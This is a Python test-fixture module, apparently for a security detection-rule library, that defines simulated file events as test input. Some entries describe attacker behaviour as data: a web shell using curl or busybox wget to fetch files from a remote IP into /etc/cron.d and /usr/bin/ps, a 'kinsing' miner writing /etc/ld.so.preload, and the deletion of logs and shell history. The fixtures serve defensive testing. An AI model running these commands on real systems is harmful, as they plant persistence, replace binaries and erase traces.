"""Scenes of files that are made, opened, removed and renamed."""

# ruff: noqa: S108 - the paths are part of a story; nothing is opened
from __future__ import annotations

from typing import TYPE_CHECKING

from ruleglot.events.activity import Access, Call, Error, FileCreate, FileDelete, FileOpen, FileRename
from ruleglot.events.scenes.cast import (
    AGENT,
    APACHE,
    BASH,
    CONSOLE,
    CRON,
    NEWBORN_SHELL,
    NGINX,
    RUNNER_SHELL,
    TTY,
    WEB_SHELL,
    started,
)

if TYPE_CHECKING:
    from ruleglot.events.activity import Activity

CURL = started(WEB_SHELL, "/usr/bin/curl", "curl", "-o", "/etc/cron.d/x", "http://203.0.113.7/x")
QUIET_CURL = started(NGINX, "/usr/bin/curl", "curl", "-o", "/etc/cron.d/x", "http://203.0.113.7/x")
HOST_CURL = started(BASH, "/usr/bin/curl", "curl", "-o", "/etc/cron.d/x", "http://203.0.113.7/x")
BUSYBOX = started(WEB_SHELL, "/bin/busybox", "busybox", "wget", "-O", "/usr/bin/ps", "http://203.0.113.7/ps")
APPLET = started(WEB_SHELL, "/bin/busybox", "wget", "http://203.0.113.7/x", invoked="/usr/bin/wget")
SENTENCE = started(WEB_SHELL, "/bin/busybox", "busybox", "sh", "-c", "busybox wget http://203.0.113.7/x")
MINER = started(WEB_SHELL, "/tmp/kinsing", "/tmp/kinsing", cwd="/tmp")

CREATIONS: tuple[Activity, ...] = (
    FileCreate(process=BASH, path="notes/My File.TXT", story="bob writes a note with a blank in its name"),
    FileCreate(process=BASH, path="/home/bob/.ssh/authorized_keys", access=Access.TOUCH, story="a first key for bob"),
    FileCreate(process=BASH, path="../x", story="a relative path that climbs"),
    FileCreate(process=BASH, path="/tmp/../etc//cron.d/y", story="an absolute path that is not normal"),
    FileCreate(process=BASH, path="/tmp/created", call=Call.CREAT, story="a file made by creat"),
    FileCreate(process=BASH, path="/tmp/pipe", call=Call.MKNODAT, story="a pipe made by mknodat"),
    FileCreate(process=BASH, path="/tmp/日本.txt", call=Call.OPENAT2, story="a file made by openat2"),
    FileCreate(process=BASH, path="/etc/nope", error=Error.EACCES, story="bob may not write in /etc"),
    FileCreate(process=AGENT, path="/var/lib/acme/state.tmp", call=Call.OPEN, story="an agent keeps its state"),
    FileCreate(process=CRON, path="/var/log/cron.log.1", story="a log is rotated"),
    FileCreate(process=CURL, path="/etc/cron.d/x", story="curl in a container drops a cron job"),
    FileCreate(process=QUIET_CURL, path="/etc/cron.d/x", story="the same without a terminal"),
    FileCreate(process=HOST_CURL, path="/etc/cron.d/x", story="the same on the host"),
    FileCreate(
        process=started(WEB_SHELL, "/usr/bin/curl", "curl", terminal=CONSOLE), path="/etc/x", story="on the console"
    ),
    FileCreate(
        process=started(WEB_SHELL, "/usr/bin/curl", "curl", terminal=TTY), path="/etc/x", story="on a virtual console"
    ),
    FileCreate(process=CURL, path="/etc/cron.d/x", call=Call.CREAT, story="a cron job made by creat"),
    FileCreate(process=CURL, path="/ETC/cron.d/x", story="a directory in capital letters"),
    FileCreate(process=CURL, path="/etcetera/x", story="a directory that only begins like /etc"),
    FileCreate(process=CURL, path="/etc/a/b/c/d", story="four levels deep"),
    FileCreate(process=BUSYBOX, path="/usr/bin/ps", story="busybox told to be wget replaces ps"),
    FileCreate(process=APPLET, path="/usr/bin/ps", story="busybox called wget replaces ps"),
    FileCreate(process=SENTENCE, path="/usr/bin/ps", story="wget is only a word inside an argument"),
    FileCreate(process=MINER, path="/etc/ld.so.preload", story="a miner hides"),
    FileCreate(process=MINER, path="/entrypoint.sh", story="a miner comes back with the container"),
    FileCreate(process=NEWBORN_SHELL, path="/root/.profile", story="a shell in a container without metadata"),
    FileCreate(process=APACHE, path="/var/www/html/shell.php", story="a web server writes a page"),
)

OPENINGS: tuple[Activity, ...] = (
    FileOpen(process=CURL, path="/etc/cron.d/x", access=Access.OVERWRITE, story="a cron job is overwritten"),
    FileOpen(
        process=CURL, path="/etc/cron.d/x", access=Access.OVERWRITE, call=Call.CREAT, story="overwritten by creat"
    ),
    FileOpen(process=CURL, path="/etc/cron.d/x", access=Access.APPEND, story="a cron job gets one line more"),
    FileOpen(process=BASH, path=".bashrc", access=Access.APPEND, story="bob changes his shell"),
    FileOpen(process=BASH, path="/home/bob/notes.txt", access=Access.READ_WRITE, story="bob edits in place"),
    FileOpen(process=MINER, path="/usr/bin/ps", access=Access.TRUNCATE, story="a program is emptied"),
    FileOpen(process=RUNNER_SHELL, path="/var/run/docker.sock", access=Access.READ_WRITE, story="a socket is opened"),
    FileOpen(process=BASH, path="/etc/passwd", access=Access.READ, story="everybody reads passwd"),
    FileOpen(process=BASH, path="/etc/shadow", access=Access.READ, error=Error.EACCES, story="bob may not read shadow"),
    FileOpen(
        process=NGINX,
        path="/var/run/secrets/kubernetes.io/serviceaccount/token",
        access=Access.READ,
        story="a pod reads its token",
    ),
    FileOpen(
        process=WEB_SHELL,
        path="/var/run/secrets/kubernetes.io/serviceaccount/token",
        access=Access.WRITE,
        story="a token is opened for writing",
    ),
)

DELETIONS: tuple[Activity, ...] = (
    FileDelete(process=BASH, path="x", story="rm in the current directory"),
    FileDelete(process=BASH, path="/var/log/auth.log", story="a log is removed"),
    FileDelete(process=BASH, path="/var/log/auth.log", call=Call.UNLINK, story="a log is removed by unlink"),
    FileDelete(process=BASH, path="/gone", call=Call.UNLINK, error=Error.ENOENT, story="there was nothing to remove"),
    FileDelete(process=MINER, path="/root/.bash_history", story="traces are removed"),
    FileDelete(process=CURL, path="/etc/cron.d/x", story="a cron job is removed"),
)

RENAMES: tuple[Activity, ...] = (
    FileRename(process=BASH, original="a.txt", path="/tmp/.b", story="bob hides a file"),
    FileRename(
        process=AGENT,
        original="/var/lib/acme/state.tmp",
        path="/var/lib/acme/state",
        call=Call.RENAME,
        story="an agent's state is complete",
    ),
    FileRename(process=CURL, original="/etc/cron.d/.tmp", path="/etc/cron.d/x", story="a cron job gets its name"),
    FileRename(process=MINER, original="/usr/bin/top", path="/usr/bin/top.original", story="top is moved away"),
    FileRename(
        process=BASH,
        original="/x/1",
        path="/x/2",
        call=Call.RENAMEAT,
        error=Error.EACCES,
        story="bob may not rename here",
    ),
)
